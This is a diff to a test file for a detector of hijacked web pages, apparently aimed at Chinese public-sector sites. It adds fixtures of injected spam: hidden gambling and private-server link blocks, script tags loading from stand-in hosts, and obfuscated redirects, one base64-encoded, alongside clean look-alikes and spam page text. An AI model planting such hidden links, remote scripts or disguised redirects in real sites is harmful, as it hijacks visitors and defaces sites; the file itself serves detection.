@@ -60,6 +60,16 @@ PACKED = (
         ("", f"<div style='position:fixed;bottom:-999px'>{LINKS}</div>"),
         ("", "<p>友情链接：<a href=http://sf.bad.example>传奇私服</a></p>"),
         ("", "<img src=a.jpg alt='百家乐 老虎机 时时彩 真人娱乐 六合彩资料'>"),
+        ("", "<div style='display:none'><a href=http://sf.bad.example/>新开传奇私服</a></div>"),
+        ("", f"<p id=hg>{LINKS}<script>document.getElementById('h'+'g').style.display='none'"),
+        ("<script src=http://a.count.xyz/tj/count.js></script>", ""),
+        ("", "<script src=http://www.bad.example/1.js></script>"),
+        (
+            "<script>var e=document.createElement('script'),u='//a.b'+'ad.pw/s';e.src=u;</script>",
+            "",
+        ),
+        ("<script>location.replace(atob('aHR0cDovL2EuYmFkLmV4YW1wbGUv'))</script>", ""),
+        ("<script>var u='http://a.b'+'ad.example/';location.href=u</script>", ""),
     ],
 )
 def test_what_only_machines_or_engines_see_is_found(head: str, below: str) -> None:
@@ -111,9 +121,32 @@ def test_a_title_that_sells_what_the_page_never_prints_is_planted(title: str) ->
         ("", "<p>友情链接：<a href=http://www.lottery.gov.cn>体育彩票中心</a></p>"),
         ("", "<div id=t2><a href=/a/3>女职工之家</a></div><script>$('#t2').hide()</script>"),
         ("<meta name=description content='4月2日晚，清溪县总工会办的缝纫夜校开了第一课'>", ""),
+        ("", '<div style="background:#c00;color:#fff"><a href="/a">网上办事</a></div>'),
+        (
+            "<script>if(/Android|iPhone/i.test(navigator.userAgent))"
+            "{location.href='http://m.qx.example/'}</script>",
+            "",
+        ),
+        ('<meta http-equiv=refresh content="0;url=https://mp.weixin.qq.com/s/a1">', ""),
+        ("<script>location.href='http://gh.hongfeng.gov.cn/d/5.html'</script>", ""),
+        (
+            "",
+            '<div style="display:none">'
+            + "".join(
+                f'<a href="http://g{n}.gov.cn/">{name}</a>'
+                for n, name in enumerate("财政部 教育部 民政部 司法部 公安部 工信部 人社部".split())
+            )
+            + "</div>",
+        ),
+        ('<meta name="keywords" content="福利彩票,体育彩票,公益金">', ""),
+        ('<meta name="keywords" content="成人高考,国产设备,激情广场,人间天堂">', ""),
+        ('<meta property="og:title" content="县公安局查处传播色情视频案">', ""),
+        ("", "<div style='display:none'><a href=/k/1>男科</a><a href=/k/2>癫痫专科</a></div>"),
+        ('<meta property="og:title" content="缝纫夜校开课">', ""),
+        ('<meta property="og:title" content="警方破获“新葡京”网络赌博案">', ""),
     ],
 )
-def test_counters_tabs_and_services_are_clean(head: str, below: str) -> None:
+def test_what_ordinary_sites_do_is_clean(head: str, below: str) -> None:
     assert parse(hijacked(head=head, below=below), url=HOME).integrity.status == "clean"
 
 
@@ -190,6 +223,11 @@ def test_a_seller_in_the_text_is_told_from_news_of_one(text: str, status: str) -
         "<title>北京同城约会</title><p>本地学生妹上门，加微信约。<p>外围模特，加微信约。",
         "<title>鸿运来</title><a href=/r>开户</a><p>真人、电子、体育、彩票应有尽有，首存即送。",
         "<title>剧情</title><ul><li>麻豆<li>国产剧情<li>人妻<li>无码中字</ul>",
+        "<title>逍遥刀最新章节</title><h1>逍遥刀</h1>作者：无名 第一章 出山 第二章 加入书签 连载",
+        "<title>流星影院</title><li>电视剧<li>电影<li>综艺<li>1080p高清<li>版权所有 流星影院",
+        "<title>今日开服</title><p>复古合击 双线首区 攻沙送元宝 战士道士法师",
+        "<title>急用钱的口子</title><p>征信黑了能下款，凭身份证放款，额度五千元。",
+        "<title>Cheap Jerseys Outlet</title><p>Free shipping, $19.99, add to cart, 30% off",
         "<title>Lucky Casino</title><h1>Lucky Casino</h1>Play roulette and baccarat now",
     ],
 )
@@ -211,3 +249,10 @@ def test_scripts_are_read_in_linear_time() -> None:
         begin = time.perf_counter()
         parse(f"<script>p,a,c,k,e write {code}</script>".encode(), url=HOME)
         assert time.perf_counter() - begin < 2
+
+
+def test_a_portal_in_its_own_name_and_a_page_of_a_body_are_clean() -> None:
+    films = "<title>流星影院</title><li>电视剧<li>电影<li>综艺<li>1080p高清<li>动漫"
+    assert parse(films.encode(), url="http://films.example/").integrity.status == "clean"
+    shown = f"{films}<p>县总工会组织职工免费观看。".encode()
+    assert parse(shown, url=HOME).integrity.status == "clean"
